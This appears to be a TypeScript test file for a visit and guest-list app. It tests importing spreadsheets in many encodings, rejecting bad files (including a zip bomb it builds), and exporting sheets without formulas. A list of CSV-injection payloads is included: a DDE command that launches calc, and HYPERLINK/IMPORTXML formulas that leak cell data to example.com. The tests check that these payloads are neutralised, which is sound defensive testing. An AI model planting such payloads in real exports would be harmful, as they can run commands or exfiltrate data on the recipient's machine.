import { strFromU8, unzipSync, zipSync } from 'fflate'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import writeExcelFile from 'write-excel-file/node'
import { GUEST_LIMITS } from '../../shared/contract/guests.ts'
import { doubtsOf } from '../../shared/domain/lists/guestDoubts.ts'
import { readGuestTable } from '../../shared/domain/lists/guestTable.ts'
import { aFullVisit, aGuest, aRoom, aVisit, refusal } from '../support/builders.ts'
import { parseCsv } from '../support/csv.ts'
import { type Client, type TestOffice, testOffice } from '../support/office.ts'
import { convertedByLibreOffice, LIBREOFFICE } from '../support/programs.ts'
import { textCell, workbookOf } from '../support/workbooks.ts'

let office: TestOffice
let client: Client
beforeEach(() => {
  office = testOffice()
  client = office.client
})
afterEach(() => office.close())

const file = (name: string, content: Uint8Array | string) => new File([content as BlobPart], name)
const rowsOf = async (input: File) => (await client.exchange.readTable({ file: input })).sheets[0]?.rows ?? []

/** GB18030 bytes of the few Chinese words the test needs: 姓名,电话 / 张伟,13800000000. */
const GB18030 = Uint8Array.from([
  0xd0,
  0xd5,
  0xc3,
  0xfb,
  0x2c,
  0xb5,
  0xe7,
  0xbb,
  0xb0,
  0x0d,
  0x0a,
  0xd5,
  0xc5,
  0xce,
  0xb0,
  0x2c,
  ...new TextEncoder().encode('13800000000\r\n'),
])

/** Cells that spreadsheets would run: OWASP's CSV Injection page, and the full-width signs that Chinese Excel takes for the same. */
const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?leak="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
  '@A1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]

describe('reading a list', () => {
  it('takes .csv in UTF-8, with its mark, in GB18030, with semicolons', async () => {
    const wanted = [
      ['姓名', '电话'],
      ['张伟', '13800000000'],
    ]
    const clean = (rows: string[][]) => rows.filter(row => row.some(cell => cell !== ''))
    expect(clean(await rowsOf(file('a.csv', '姓名,电话\r\n张伟,13800000000\r\n')))).toEqual(wanted)
    expect(clean(await rowsOf(file('a.csv', '\ufeff姓名;电话\n张伟;13800000000')))).toEqual(wanted)
    expect(clean(await rowsOf(file('a.csv', GB18030)))).toEqual(wanted)
  })

  const utf16 = (text: string, order: 'le' | 'be') => {
    const bytes = Buffer.from(text, 'utf16le')
    return new Uint8Array(order === 'le' ? bytes : bytes.swap16())
  }
  it.each([
    ['UTF-16 without its mark', utf16('姓名\t电话\r\n张伟\t13800000000', 'le'), ['张伟', '13800000000']],
    ['UTF-16 the other way round', utf16('姓名,电话\r\n张伟,13800000000', 'be'), ['张伟', '13800000000']],
    ['UTF-16 with its mark', utf16('\ufeff姓名;电话\n张伟;13800000000', 'le'), ['张伟', '13800000000']],
    [
      'Big5, as Excel of Taiwan and Hong Kong writes it',
      'qW2mVyzCvrrZLLPmpuwsuXG43A0Kqkyn06n6LKjzsnospXjGV7rrsUu+97HxqtGl96azra2kvaVxLDA5MTIzNDU2NzgNCrOvtq60QCy4Z7J6LKV4xle667FLvvex8arRpfems62tpL2lcSwwOTIyMzMzNDQ0DQo=',
      ['林志明', '協理', '台灣精密機械股份有限公司', '0912345678'],
    ],
    [
      'GB18030 with semicolons and a rare character of four bytes',
      '0NXD+zvWsM7xO7Wlzrs7tee7sA0K1cXOsDvX3L6twO071La6vb/GvLzT0M/euavLvjsxMzgwMDAwMDAwMQ0KwO7EyIE58zg7w9jK6TvUtrq9v8a8vNPQz965q8u+OzEzODAwMDAwMDAyDQo=',
      ['张伟', '总经理', '远航科技有限公司', '13800000001'],
    ],
    [
      'Shift JIS',
      'joGWvCyW8JBFLInvjtAsk2SYYg0Kk2OShpG+mFkslZSStyyTjJhhk2SLQIqUjq6J747QLCs4MSAzIDEyMzQgNTY3OA0K',
      ['田中太郎', '部長', '東和電機株式会社', '+81 3 1234 5678'],
    ],
    [
      'the code page of Western Europe',
      'TmFtZTtUaXRsZTtDb21wYW55DQpK/HJnZW4gTfxsbGVyO0dlc2No5GZ0c2b8aHJlcjvWa28gUHLkemlzaW9uIEdtYkgNCkFuZHLpIExlZuh2cmU7RGlyZWN0ZXVyIGfpbulyYWw7U29jael06SBH6W7pcmFsZQ0K',
      ['Jürgen Müller', 'Geschäftsführer', 'Öko Präzision GmbH'],
    ],
    ['a first line that names the delimiter', 'sep=;\r\n姓名;备注\r\n张伟;"素食, 不吃辣"', ['张伟', '素食, 不吃辣']],
  ])('takes text in %s', async (_, content, second) => {
    const bytes =
      typeof content === 'string' && !content.includes(';') ? new Uint8Array(Buffer.from(content, 'base64')) : content
    expect((await rowsOf(file('a.csv', bytes)))[1]).toEqual(second)
  })

  it('takes a letter with commas in it as its lines', async () => {
    const letter = ['您好，我们来三位：', '张伟，总经理，13800000001', '李娜, 秘书', '谢谢, 再见']
    expect(await rowsOf(file('a.txt', letter.join('\r\n')))).toEqual(letter.map(line => [line]))
    expect(await rowsOf(file('a.txt', '姓名,电话\n张伟,13800000000'))).toEqual([
      ['姓名', '电话'],
      ['张伟', '13800000000'],
    ])
  })

  it('leaves out what is hidden in a workbook, and says how much', async () => {
    const row = (number: number, cells: string, more = '') => `<row r="${number}"${more}>${cells}</row>`
    const texts = (number: number, ...words: string[]) =>
      words.map((word, index) => textCell(`${'ABCD'[index]}${number}`, word)).join('')
    const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
    const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    const sheet = (rows: string) =>
      `<worksheet xmlns="${main}"><cols><col min="3" max="3" width="9" hidden="1"/></cols><sheetData>${rows}</sheetData></worksheet>`
    const bytes = workbookOf('', {
      'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${relations}"><sheets><sheet name="名单" sheetId="1" r:id="rId1"/><sheet name="去年" sheetId="2" state="hidden" r:id="rId2"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${[1, 2].map(each => `<Relationship Id="rId${each}" Type="${relations}/worksheet" Target="worksheets/sheet${each}.xml"/>`).join('')}</Relationships>`,
      'xl/worksheets/sheet1.xml': sheet(
        row(1, texts(1, '姓名', '职务', '内部评价', '电话')) +
          row(2, texts(2, '张伟', '总经理', '难缠', '13800000001')) +
          row(3, texts(3, '旧人', '经理', '', '13800000002'), ' hidden="1"') +
          row(4, texts(4, '更旧', '经理', '', '13800000003'), ' ht="0" customHeight="1"') +
          row(5, texts(5, '李娜', '秘书', '', '13800000004')),
      ),
      'xl/worksheets/sheet2.xml': sheet(row(1, texts(1, '姓名')) + row(2, texts(2, '前人'))),
    })
    const read = await client.exchange.readTable({ file: file('a.xlsx', bytes) })
    expect(read).toEqual({
      hiddenSheets: ['去年'],
      sheets: [
        {
          name: '名单',
          hidden: { rows: 2, columns: 1 },
          rows: [['姓名', '职务', '电话'], ['张伟', '总经理', '13800000001'], [], [], ['李娜', '秘书', '13800000004']],
        },
      ],
    })
    expect(readGuestTable(read.sheets[0]?.rows ?? []).guests.map(guest => [guest.row, guest.draft.name])).toEqual([
      [2, '张伟'],
      [5, '李娜'],
    ])
  })

  it('takes .xlsx with titles, merged cells, numbers and dates, through to guests', async () => {
    const workbook = await writeExcelFile(
      [
        [{ value: '考察团名单', columnSpan: 4 }, null, null, null],
        [null, null, null, null],
        ['姓名', '单位', '手机', '到达'],
        [
          '张伟',
          { value: '华东协会', rowSpan: 2 },
          13800000001,
          { value: new Date('2026-12-01T08:30:00Z'), format: 'yyyy-mm-dd hh:mm' },
        ],
        ['李娜', null, '13800000002', null],
        ['王芳', '另一家', null, null],
        ['备注：以上名单以最终为准', null, null, null],
      ],
      { sheet: '名单' },
    ).toBuffer()
    const rows = await rowsOf(file('名单.xlsx', new Uint8Array(workbook)))
    expect(rows[3]).toEqual(['张伟', '华东协会', '13800000001', '2026-12-01 08:30'])
    const { guests, headerRow } = readGuestTable(rows)
    expect(headerRow).toBe(3)
    expect(guests.map(guest => [guest.draft.name, guest.draft.organization])).toEqual([
      ['张伟', '华东协会'],
      ['李娜', '华东协会'],
      ['王芳', '另一家'],
    ])
    expect(doubtsOf(guests, [], GUEST_LIMITS).flat()).toEqual([])
  })

  it('refuses what it cannot read, and says why', async () => {
    const ole = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])
    const encrypted = new Uint8Array([...ole, ...Buffer.from('EncryptedPackage', 'utf16le')])
    const bomb = zipSync({ 'xl/workbook.xml': new Uint8Array(1), 'xl/worksheets/sheet1.xml': new Uint8Array(123_457) })
    // Its directory says 310 MB, as that of a real one does (APPNOTE 4.4.9).
    for (let at = 0; at < bomb.length - 4; at++)
      if (new DataView(bomb.buffer).getUint32(at, true) === 123_457)
        new DataView(bomb.buffer).setUint32(at, 310_000_000, true)
    for (const [name, bytes, reason] of [
      ['old.xls', ole, 'oldExcel'],
      ['secret.xlsx', encrypted, 'encrypted'],
      ['empty.csv', new Uint8Array(0), 'empty'],
      ['blank.csv', '\n\n', 'empty'],
      ['a.zip', zipSync({ 'a.txt': new Uint8Array(3) }), 'notExcel'],
      ['a.png', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), 'unknownKind'],
      ['bomb.xlsx', bomb, 'tooMuch'],
      ['big.csv', new Uint8Array(20_000_001).fill(65), 'tooLarge'],
    ] as const) {
      const { code, data } = await refusal(client.exchange.readTable({ file: file(name, bytes) }))
      expect([name, code, data.reason]).toEqual([name, 'BAD_FILE', reason])
    }
  })
})

describe('sheets for Excel', () => {
  const dangerous = ['=1+1', '+cmd', '-2', '@SUM(A1)', '\t=1', '＝1+1']

  it('.csv opens in Chinese Excel and holds no formula', async () => {
    const visit = await aVisit(client, { title: '公式/来访' })
    for (const name of dangerous)
      await aGuest(client, visit.id, { name: `x${name}`, title: name, phone: '+44 7700 900123' })
    const answer = await office.get(`/exports/guests.csv?visit=${visit.id}`)
    expect(answer.headers.get('content-disposition')).toContain(encodeURIComponent('公式 来访-2026-11-23-来宾名单.csv'))
    const bytes = new Uint8Array(await answer.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = await rowsOf(file('a.csv', bytes))
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/)
    expect(rows[1]?.[2]).toBe("'=1+1")
  })

  it('.xlsx holds the same as text, real dates, and no formula element', async () => {
    const room = await aRoom(client, { name: '301 会议室' })
    const visit = await aVisit(client, { startsOn: '2026-12-01' })
    for (const content of dangerous)
      await client.itinerary.add({
        visitId: visit.id,
        kind: 'meeting',
        startsAt: '2026-12-01T09:00',
        endsAt: '2026-12-01T10:07',
        content,
      })
    await client.itinerary.add({
      visitId: visit.id,
      kind: 'meeting',
      startsAt: '2026-12-01T11:00',
      endsAt: '2026-12-01T11:45',
      content: '会谈',
      roomId: room.id,
    })
    const bytes = new Uint8Array(await (await office.get(`/exports/schedule.xlsx?visit=${visit.id}`)).arrayBuffer())
    const rows = await rowsOf(file('a.xlsx', bytes))
    expect(rows[1]?.slice(0, 5)).toEqual(['2026-12-01', '2026-12-01 09:00', '2026-12-01 10:07', '会谈', '=1+1'])
    expect(rows.at(-1)?.[5]).toBe('301 会议室')
    const { unzipSync, strFromU8 } = await import('fflate')
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).not.toMatch(/<f[ >]/)
    expect(sheet).toContain('pane')
  })

  it('a template goes out and comes back', async () => {
    await aRoom(client, { name: '301 会议室', capacity: 20, equipment: ['投影', '白板'] })
    const bytes = new Uint8Array(await (await office.get('/exports/resource-template.xlsx?kind=room')).arrayBuffer())
    const { readResourceTable } = await import('../../shared/domain/lists/resourceTable.ts')
    const read = readResourceTable(await rowsOf(file('rooms.xlsx', bytes)), 'room')?.rows ?? []
    expect(read[0]?.draft).toMatchObject({ name: '301 会议室', capacity: 20, equipment: ['投影', '白板'] })
    expect(
      await client.resources.importAll({
        kind: 'room',
        rows: [...read.map(each => each.draft), { ...(read[0]?.draft ?? ({} as never)), name: '302' }],
      }),
    ).toMatchObject({ created: 1, updated: 1 })
  })
})

describe('tables', () => {
  it.skipIf(!LIBREOFFICE)(
    'an .xlsx opens in LibreOffice with the same cells, real dates and no formula',
    { timeout: 120_000 },
    async () => {
      const { visit } = await aFullVisit(client)
      for (const [index, name] of DANGEROUS.entries())
        await aGuest(client, visit.id, { name: `危险${index}`, title: name, notes: name })
      const guests = parseCsv(
        convertedByLibreOffice(
          'guests.xlsx',
          await office.bytes(`/exports/guests.xlsx?visit=${visit.id}`),
          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        ),
      )
      expect(guests[0]).toEqual(expect.arrayContaining(['姓名', '职务']))
      const title = guests[0]?.indexOf('职务') ?? -1
      const shown = guests.slice(3).map(row => row[title])
      expect(shown.map(cell => cell?.trim())).toEqual(DANGEROUS.map(cell => cell.trim()))
      const schedule = parseCsv(
        convertedByLibreOffice(
          'schedule.xlsx',
          await office.bytes(`/exports/schedule.xlsx?visit=${visit.id}`),
          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        ),
      )
      expect(schedule[1]?.slice(1, 3)).toEqual(['2026-12-01 10:00:00', '2026-12-01 11:30:00'])
    },
  )

  it('an .xlsx has a filter, a frozen title that is printed on every page, and is as wide as the paper', async () => {
    const { visit } = await aFullVisit(client)
    const parts = unzipSync(await office.bytes(`/exports/guests.xlsx?visit=${visit.id}`))
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).toMatch(/<autoFilter ref="A1:K3"\/>/)
    expect(sheet).toMatch(/fitToPage="1"/)
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"/)
    expect(sheet).not.toMatch(/<f[ >]/)
    expect(sheet.indexOf('<autoFilter')).toBeGreaterThan(sheet.indexOf('</sheetData>'))
    expect(strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array())).toContain('_xlnm.Print_Titles')
  })

  it('a day in an .xlsx is a date, not text that looks like one', async () => {
    const { visit } = await aFullVisit(client)
    const serial = (Date.UTC(2026, 11, 1) - Date.UTC(1899, 11, 30)) / 86_400_000
    for (const [file, cell] of [
      [`schedule.xlsx?visit=${visit.id}`, 'A2'],
      ['visits.xlsx?from=2026-12-01&until=2026-12-01', 'F2'],
    ] as const) {
      const parts = unzipSync(await office.bytes(`/exports/${file}`))
      const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
      expect(sheet).toMatch(new RegExp(`<c r="${cell}" s="\\d+"><v>${serial}</v>`))
    }
  })

  it.each(DANGEROUS)('a .csv cell %j never begins as a formula', async cell => {
    const visit = await aVisit(client)
    await aGuest(client, visit.id, { name: '甲', notes: cell })
    const [, row = []] = parseCsv((await office.text(`/exports/guests.csv?visit=${visit.id}`)).replace(/^\ufeff/, ''))
    for (const shown of row) expect(shown).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u)
    expect(row.some(shown => shown.includes(cell.trim()))).toBe(true)
  })
})
